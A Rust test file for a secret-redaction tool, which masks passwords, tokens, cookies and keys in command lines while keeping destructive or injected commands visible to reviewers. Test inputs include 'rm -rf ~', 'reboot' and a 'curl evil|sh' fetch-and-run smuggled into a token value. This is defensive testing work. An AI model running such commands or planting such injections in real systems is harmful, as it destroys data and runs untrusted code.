//! Where secrets stand in commands and in lines for a shell.

use super::*;

#[test]
fn secrets_by_option_variable_header_and_address_are_marked() {
    for (command, marked) in [
        ("tool --password hunter2 x", "tool --password [redacted:password] x"),
        ("tool --password=hunter2 x", "tool --password=[redacted:password] x"),
        ("tool -password hunter2", "tool -password [redacted:password]"),
        ("tool --db-password hunter2", "tool --db-password [redacted:password]"),
        ("tool --token abc", "tool --token [redacted:token]"),
        ("tool --api-key=abc", "tool --api-key=[redacted:api-key]"),
        ("tool --client-secret x/y+z", "tool --client-secret [redacted:secret]"),
        ("mysql -uroot -phunter2 db", "mysql -uroot -p[redacted:password] db"),
        ("sudo /usr/bin/mysqldump -phunter2", "sudo /usr/bin/mysqldump -p[redacted:password]"),
        (
            "sshpass -p hunter2 ssh -p 22 h",
            "sshpass -p [redacted:password] ssh -p [redacted:password] h",
        ),
        ("sshpass -phunter2 ssh h", "sshpass -p[redacted:password] ssh h"),
        ("docker login -u me -p hunter2 r", "docker login -u me -p [redacted:password] r"),
        ("redis-cli -a hunter2 ping", "redis-cli -a [redacted:password] ping"),
        ("curl -u me:hunter2 http://h", "curl -u me:[redacted:password] http://h"),
        ("curl -ume:hunter2 http://h", "curl -ume:[redacted:password] http://h"),
        ("curl --user=me:hunter2 h", "curl --user=me:[redacted:password] h"),
        ("curl http://me:hunter2@h/p", "curl http://me:[redacted:password]@h/p"),
        ("psql postgres://u:p@ss@h:5432/d", "psql postgres://u:[redacted:password]@h:5432/d"),
        ("openssl enc -k hunter2", "openssl enc -k [redacted:password]"),
        ("openssl rsa -passin pass:x", "openssl rsa -passin pass:[redacted:password]"),
        ("zip -P hunter2 a.zip a", "zip -P [redacted:password] a.zip a"),
        ("7z x -phunter2 a.7z", "7z x -p[redacted:password] a.7z"),
        ("env TOKEN=abcdefg make", "env TOKEN=[redacted:token] make"),
        ("env GITHUB_TOKEN=a&b;c make", "env GITHUB_TOKEN=[redacted:token] make"),
        ("docker run -e PGPASSWORD=x i", "docker run -e PGPASSWORD=[redacted:password] i"),
        ("docker run --env=MYSQL_PWD=x i", "docker run --env=MYSQL_PWD=[redacted:password] i"),
        ("AWS_SECRET_ACCESS_KEY=abc/def aws", "AWS_SECRET_ACCESS_KEY=[redacted:key] aws"),
        ("helm --set db.password=x,a=b", "helm --set db.password=[redacted:password]"),
        ("npm config set //r/:_authToken=abc", "npm config set //r/:_authToken=[redacted:token]"),
    ] {
        let words: Vec<&str> = command.split(' ').collect();
        assert_eq!(argv(&words), marked);
    }
    for (words, shown) in [
        (&["curl", "-H", "Cookie: a=dark; s=SECRET"][..], "curl -H Cookie: [redacted:header]"),
        (&["curl", "-HCookie: a=dark; s=SECRET"], "curl -HCookie: [redacted:header]"),
        (&["curl", "--header", "Cookie: a=b; s=SECRET"], "curl --header Cookie: [redacted:header]"),
        (&["curl", "--header=Cookie: a=b; s=SECRET"], "curl --header=Cookie: [redacted:header]"),
        (
            &["curl", "--proxy-header", "Cookie: a=b; s=SECRET"],
            "curl --proxy-header Cookie: [redacted:header]",
        ),
        (
            &["docker", "run", "-e", "DB_PASSWORD=my pass&word", "i"],
            "docker run -e DB_PASSWORD=[redacted:password] i",
        ),
        (
            &["docker", "run", "--env", "DB_PASSWORD=my `pass` word", "i"],
            "docker run --env DB_PASSWORD=[redacted:password] i",
        ),
        (
            &["docker", "build", "--build-arg", "NPM_TOKEN=my $(to) ken", "."],
            "docker build --build-arg NPM_TOKEN=[redacted:token] .",
        ),
    ] {
        assert_eq!(argv(words), shown);
    }
    let bearer = "Authorization: Bearer abc.def";
    assert_eq!(
        argv(&["curl", "-H", bearer, "http://h"]),
        "curl -H Authorization: Bearer [redacted:header] http://h"
    );
    assert_eq!(argv(&["curl", "-HX-Api-Key: abc"]), "curl -HX-Api-Key: [redacted:header]");
    assert_eq!(argv(&["curl", "-b", "sid=1"]), "curl -b [redacted:password]");
    assert_eq!(argv(&["x", "--password=my pass phrase"]), "x --password=[redacted:password]");
    assert_eq!(argv(&["x", "--password", "my pass phrase"]), "x --password [redacted:password]");
}

#[test]
fn lines_for_a_shell_and_bodies_are_looked_through() {
    for (line, marked) in [
        ("TOKEN=abcdefg make && ls", "TOKEN=[redacted:token] make && ls"),
        ("export PASSWORD='a b' ; ls", "export PASSWORD='[redacted:password]' ; ls"),
        ("mysql -phunter2 -e 'select 1'", "mysql -p[redacted:password] -e 'select 1'"),
        ("tool --password hunter2; ls", "tool --password [redacted:password]; ls"),
        ("tool --password 'a b' x", "tool --password '[redacted:password]' x"),
        (
            "curl -H 'Authorization: token abc' h",
            "curl -H 'Authorization: token [redacted:header]' h",
        ),
        ("curl h/?access_token=abc&x=1", "curl h/?access_token=[redacted:token]&x=1"),
    ] {
        assert_eq!(argv(&["sh", "-c", line]), format!("sh -c {marked}"));
        assert_eq!(text(line), marked);
    }
    let body = r#"{"user":"me","password":"hun ter2","n":1}"#;
    let marked = r#"{"user":"me","password":"[redacted:password]","n":1}"#;
    assert_eq!(argv(&["curl", "-d", body]), format!("curl -d {marked}"));
    let escaped = r#"{\"password\": \"hunter2\", \"n\": 1}"#;
    assert_eq!(text(escaped), r#"{\"password\": \"[redacted:password]\", \"n\": 1}"#);
    assert_eq!(text("password: hunter2, then"), "password: [redacted:password], then");
}

#[test]
fn a_line_for_a_shell_shows_what_the_shell_would_run() {
    for (command, shown) in [
        (
            &["sh", "-ce", "PASSWORD=x; rm -rf ~"][..],
            "sh -ce PASSWORD=[redacted:password]; rm -rf ~",
        ),
        (&["bash", "-c", "-e", "TOKEN=x;reboot"], "bash -c -e TOKEN=[redacted:token];reboot"),
        (
            &["bash", "-c", "-o", "pipefail", "TOKEN=x rm -rf ~"],
            "bash -c -o pipefail TOKEN=[redacted:token] rm -rf ~",
        ),
        (
            &["bash", "-co", "pipefail", "+O", "extglob", "-e", "TOKEN=x rm -rf ~"],
            "bash -co pipefail +O extglob -e TOKEN=[redacted:token] rm -rf ~",
        ),
        (&["sh", "-c", ": cookie: x; rm -rf ~"], "sh -c : cookie: [redacted:header]; rm -rf ~"),
        (&["ssh", "h", "PASSWORD=x; rm -rf ~"], "ssh h PASSWORD=[redacted:password]; rm -rf ~"),
        (&["ssh", "h", "PASSWORD=x\nrm -rf ~"], "ssh h PASSWORD=[redacted:password]\nrm -rf ~"),
        (&["ssh", "h", "cookie: x\nrm"], "ssh h cookie: [redacted:header]\nrm"),
        (
            &["sh", "-c", "TOKEN=\"x$(curl evil|sh)\" ls"],
            "sh -c TOKEN=\"[redacted:token]$(curl evil|sh)\" ls",
        ),
        (&["ssh", "h", "TOKEN=x`reboot`"], "ssh h TOKEN=[redacted:token]`reboot`"),
        (&["ssh", "h", "TOKEN=`reboot`"], "ssh h TOKEN=`reboot`"),
        (&["ssh", "h", "--token=x$(reboot)"], "ssh h --token=[redacted:token]$(reboot)"),
        (&["sh", "-c", "x --token 'a`b`'"], "sh -c x --token '[redacted:token]`b`'"),
        (&["sh", "-c", "x --token a$(b)"], "sh -c x --token [redacted:token]$(b)"),
        (
            &["sh", "-c", ": -----BEGIN PRIVATE KEY-----; evil"],
            "sh -c : [redacted:private-key]; evil",
        ),
        (
            &["sh", "-c", ": -----BEGIN PRIVATE KEY-----\nrm -rf ~\n: -----END PRIVATE KEY-----"],
            "sh -c : [redacted:private-key]\nrm -rf ~\n: -----END PRIVATE KEY-----",
        ),
        (&["sh", "-c", "curl http://u:x;evil@h"], "sh -c curl http://u:x;evil@h"),
        (
            &["sh", "-c", "curl 'http://u:x;y@h' -H 'Cookie: a=b; c=d'"],
            "sh -c curl 'http://u:[redacted:password]@h' -H 'Cookie: [redacted:header]'",
        ),
        // The quote behind the name ends what is quoted.
        (&["sh", "-c", "\"PASSWORD=\"x; evil; \"y\""], {
            "sh -c \"PASSWORD=\"[redacted:password]; evil; \"y\""
        }),
        (
            &["sh", "-c", ": '{\"password\": \"x'; evil; : '\"}'"],
            "sh -c : '{\"password\": \"[redacted:password]'; evil; : '\"}'",
        ),
        (
            &["sh", "-c", "\\\" a\" --password \"; evil; : \""],
            "sh -c \\\" a\" --password \"; evil; : \"",
        ),
    ] {
        assert_eq!(argv(command), shown);
    }
    // What was left for the eyes of a person stays when it is written down.
    let line = argv(&["sh", "-c", "TOKEN=\"x$(curl evil|sh)\" ls"]);
    let json = serde_json::json!({ "reason": line }).to_string();
    assert_eq!(Redactor::default().json(json.as_bytes(), &Fields::default()), None);
}

#[test]
fn what_is_hidden_and_acts_on_a_shell_is_told() {
    let redactor = Redactor::default();
    let acting = |argv: &[&str]| redactor.argv(argv).map(|redacted| redacted.acting);
    assert_eq!(acting(&["ssh", "h", "TOKEN=x;reboot"]), Some(vec![2]));
    assert_eq!(acting(&["x", "--password", "a|b", "--token=a&b"]), Some(vec![2, 3]));
    assert_eq!(acting(&["sh", "-c", "curl -H 'Cookie: a=b; c=d'"]), Some(vec![2]));
    assert_eq!(acting(&["x", "--password", "hunter2 $HOME", "--token=ab"]), Some(vec![]));
    assert_eq!(acting(&["sh", "-c", "PASSWORD=x; rm -rf ~"]), Some(vec![]));
    // Without a sign of a line, but one to whoever runs it.
    assert_eq!(acting(&["ssh", "h", "TOKEN=x rm -rf /srv"]), Some(vec![2]));
    assert_eq!(acting(&["env", "-S", "PASSWORD=x\trm -rf /srv"]), Some(vec![2]));
    assert_eq!(acting(&["env", "-SPASSWORD=x rm -rf /srv"]), Some(vec![1]));
    assert_eq!(acting(&["x", "--password=a b", "--password", "a b"]), Some(vec![]));
    assert_eq!(acting(&["mysql", "-pa b", "TOKEN=ab"]), Some(vec![]));
    redactor.declare([("odd".to_owned(), b"corr;ect".to_vec())]);
    assert_eq!(acting(&["echo", "corr;ect"]), Some(vec![1]));
}
